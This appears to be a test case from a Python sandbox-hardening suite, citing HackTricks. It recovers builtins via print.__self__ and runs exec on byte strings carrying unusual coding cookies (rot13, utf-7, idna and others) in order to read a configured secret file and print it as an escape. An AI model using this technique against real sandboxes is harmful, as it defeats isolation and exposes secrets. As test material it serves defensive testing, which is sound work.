# expect: done
# idea: name in a cookie -*- coding: rot13 -*- a codec that is no text codec, and have exec read such bytes too
# source: HackTricks
def tick(ctx):
    run = print.__self__.exec
    space = {"__builtins__": print.__self__, "path": ctx.config["secret_file"]}
    for cookie in (b"rot13", b"utf-7", b"nothing-known", b"idna", b"raw_unicode_escape", b"utf-16", b"latin-1"):
        try:
            run(b"# coding: " + cookie + b"\nprint('ESCAPED: read', open(path).read())", space)
        except Exception as error:
            print(cookie, "refused:", type(error).__name__, error)
